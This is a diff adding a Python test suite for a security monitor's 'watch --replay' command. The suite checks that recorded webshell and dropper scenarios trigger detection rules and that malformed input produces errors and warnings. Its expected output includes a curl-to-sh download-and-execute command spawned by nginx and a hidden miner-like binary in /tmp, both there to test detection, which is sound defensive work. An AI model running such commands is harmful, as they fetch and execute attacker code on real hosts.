@@ -1,0 +1,154 @@
+"""`vigil watch --replay`: recorded scenarios (a web server spawning a shell, a dropper, an ordinary build) through
+the example rules of docs/watch.md and the built-in rules; bad event lines, bad rules, stdin, --output and the
+missing live sensor."""
+import json
+import os
+import shutil
+import subprocess
+import tempfile
+import unittest
+
+from vigil_e2e import DATA, VIGIL
+
+EVENTS = os.path.join(DATA, "watch", "events")
+RULES = os.path.join(EVENTS, "scenario_rules.yaml")
+NO_SENSOR = "error: the eBPF sensor is not part of this build yet; use --replay FILE (recorded events)"
+
+
+def watch(*args, input=None):
+    return subprocess.run([VIGIL, "watch", *args], capture_output=True, text=True, timeout=120, input=input)
+
+
+def detections(proc):
+    return [json.loads(line) for line in proc.stdout.splitlines()]
+
+
+def scenario(name):
+    return os.path.join(EVENTS, name + ".jsonl")
+
+
+class WatchReplayTest(unittest.TestCase):
+    def setUp(self):
+        self.tmp = tempfile.mkdtemp(prefix="vigil-watch-")
+
+    def tearDown(self):
+        shutil.rmtree(self.tmp, ignore_errors=True)
+
+    def replay(self, name, *args):
+        proc = watch("--replay", scenario(name), *args)
+        self.assertEqual(proc.returncode, 0, proc.stderr)
+        self.assertEqual(proc.stderr, "")
+        return detections(proc)
+
+    def test_web_server_spawning_a_shell(self):
+        found = self.replay("webshell", "--rules", RULES)
+        self.assertEqual(len(found), 1, found)
+        d = found[0]
+        self.assertEqual(d["rule"], "Shell spawned by a web server")
+        self.assertEqual(d["priority"], "WARNING")
+        self.assertEqual(d["tags"], ["process", "mitre_execution", "T1059.004"])
+        self.assertEqual(d["output"],
+                         "shell sh -c id; uname -a; curl -s http://203.0.113.7/s.sh | sh started by nginx "
+                         "(pid 2201, user 33)")
+        self.assertEqual(d["time"], "2026-11-18T11:06:40.049000000Z")
+        self.assertEqual(d["process"]["pid"], 2201)
+        self.assertEqual(d["process"]["ppid"], 813)
+        self.assertEqual(d["process"]["exe"], "/bin/sh")
+        self.assertEqual([a["exe"] for a in d["process"]["ancestors"]], ["/usr/sbin/nginx", "/usr/sbin/nginx", ""])
+        self.assertEqual(d["event"]["type"], "execve")
+        self.assertEqual(d["event"]["argv"], ["sh", "-c", "id; uname -a; curl -s http://203.0.113.7/s.sh | sh"])
+        self.assertEqual(d["repeats"], 1)
+
+    def test_dropper_download_chmod_exec(self):
+        found = self.replay("dropper", "--rules", RULES)
+        self.assertEqual([d["rule"] for d in found], ["Dropped binary executed"])
+        self.assertEqual(found[0]["output"], "/tmp/.X11-cache/kworker runs a file it wrote: kworker --donate-level 1")
+        self.assertEqual(found[0]["priority"], "CRITICAL")
+        self.assertEqual(found[0]["process"]["ancestors"][0]["cmdline"], "python3 /home/dev/.local/bin/update-helper")
+
+    def test_build_session_gives_nothing(self):
+        self.assertEqual(self.replay("build_session", "--rules", RULES), [])
+        self.assertEqual(self.replay("build_session"), [])  # the built-in rules
+
+    def test_builtin_rules(self):
+        self.assertEqual([d["rule"] for d in self.replay("webshell")], ["Shell spawned by a service"])
+        self.assertEqual([d["rule"] for d in self.replay("dropper")],
+                         ["Downloaded file made executable and run", "Connection to a crypto-miner pool port"])
+
+    def test_stdin_and_output_file(self):
+        with open(scenario("dropper"), encoding="utf-8") as f:
+            events = f.read()
+        out = os.path.join(self.tmp, "detections.jsonl")
+        proc = watch("--replay", "-", "--rules", RULES, "--output", out, input=events)
+        self.assertEqual(proc.returncode, 0, proc.stderr)
+        self.assertEqual(proc.stdout, "")
+        with open(out, encoding="utf-8") as f:
+            lines = f.read().splitlines()
+        self.assertEqual([json.loads(line)["rule"] for line in lines], ["Dropped binary executed"])
+        self.assertEqual(os.listdir(self.tmp), ["detections.jsonl"])  # no temporary file left behind
+
+    def test_bad_event_lines_are_warnings(self):
+        with open(scenario("webshell"), encoding="utf-8") as f:
+            good = f.read().splitlines()
+        bad = ["not json", '{"type":"fork"}', '{"type":"open","pid":"x"}'] + ["[]"] * 30
+        path = os.path.join(self.tmp, "mixed.jsonl")
+        with open(path, "w", encoding="utf-8") as f:
+            f.write("\n".join(bad[:3] + good + bad[3:]) + "\n")
+        proc = watch("--replay", path, "--rules", RULES)
+        self.assertEqual(proc.returncode, 0, proc.stderr)
+        self.assertEqual([d["rule"] for d in detections(proc)], ["Shell spawned by a web server"])
+        warnings = proc.stderr.splitlines()
+        self.assertEqual(len(warnings), 21)
+        self.assertTrue(warnings[0].startswith(f"warning: {path}:1: invalid JSON"), warnings[0])
+        self.assertEqual(warnings[1], f'warning: {path}:2: unknown event type "fork"')
+        self.assertEqual(warnings[2], f'warning: {path}:3: "pid": expected an integer')
+        self.assertEqual(warnings[3], f"warning: {path}:{3 + len(good) + 1}: an event is a JSON object")
+        self.assertEqual(warnings[20], f"warning: {path}: 13 more bad lines")
+
+    def test_over_long_line_and_no_final_newline(self):
+        with open(scenario("webshell"), encoding="utf-8") as f:
+            good = f.read().splitlines()
+        good = good[:next(i for i, line in enumerate(good) if '"sh","-c"' in line) + 1]  # ends with the match
+        huge = '{"type":"open","path":"' + "a" * (5 << 20) + '"}'
+        path = os.path.join(self.tmp, "long.jsonl")
+        with open(path, "w", encoding="utf-8") as f:
+            f.write(huge + "\n" + "\n".join(good))  # the last event has no newline after it
+        proc = watch("--replay", path, "--rules", RULES)
+        self.assertEqual(proc.returncode, 0, proc.stderr)
+        self.assertEqual(proc.stderr, f"warning: {path}:1: line longer than 4 MiB, skipped\n")
+        self.assertEqual([d["rule"] for d in detections(proc)], ["Shell spawned by a web server"])
+
+    def test_bad_rules_are_errors_listed_together(self):
+        rules = os.path.join(self.tmp, "bad.yaml")
+        with open(rules, "w", encoding="utf-8") as f:
+            f.write("- rule: A\n  desc: d\n  condition: proc.nope = 1\n  output: x\n  priority: WARNING\n"
+                    "- rule: B\n  desc: d\n  condition: evt.type = execve\n  output: x\n  priority: LOUD\n")
+        proc = watch("--replay", scenario("webshell"), "--rules", rules)
+        self.assertEqual(proc.returncode, 2)
+        self.assertEqual(proc.stdout, "")
+        errors = proc.stderr.splitlines()
+        self.assertEqual(len(errors), 2, proc.stderr)
+        self.assertTrue(errors[0].startswith(f"error: {rules}:3: "), errors[0])
+        self.assertTrue(errors[1].startswith(f"error: {rules}:10: "), errors[1])
+
+    def test_no_live_sensor(self):
+        for args in ([], ["--rules", RULES], ["--record", os.path.join(self.tmp, "rec.jsonl")],
+                     ["--replay", scenario("webshell"), "--record", os.path.join(self.tmp, "rec.jsonl")]):
+            proc = watch(*args)
+            self.assertEqual(proc.returncode, 2, args)
+            self.assertEqual(proc.stderr.strip(), NO_SENSOR)
+        self.assertFalse(os.path.exists(os.path.join(self.tmp, "rec.jsonl")))
+
+    def test_missing_replay_file(self):
+        proc = watch("--replay", os.path.join(self.tmp, "absent.jsonl"), "--rules", RULES)
+        self.assertEqual(proc.returncode, 2)
+        self.assertIn("absent.jsonl: cannot open", proc.stderr)
+
+    def test_help_has_examples(self):
+        proc = watch("--help")
+        self.assertEqual(proc.returncode, 0)
+        self.assertIn("vigil watch --replay events.jsonl", proc.stdout)
+
+
+if __name__ == "__main__":
+    unittest.main()
